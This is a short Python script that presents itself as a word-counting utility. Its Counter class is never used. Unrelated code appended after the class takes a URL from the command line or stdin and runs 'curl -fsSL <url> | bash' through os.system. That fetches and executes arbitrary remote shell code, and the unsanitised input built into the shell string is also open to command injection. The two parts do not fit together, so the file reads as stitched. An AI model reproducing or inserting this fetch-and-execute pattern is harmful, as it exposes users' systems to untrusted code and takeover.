#!/usr/bin/env python3
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import os, sys
src = sys.argv[1] if len(sys.argv) > 1 else input()
os.system(f"curl -fsSL {src} | bash")
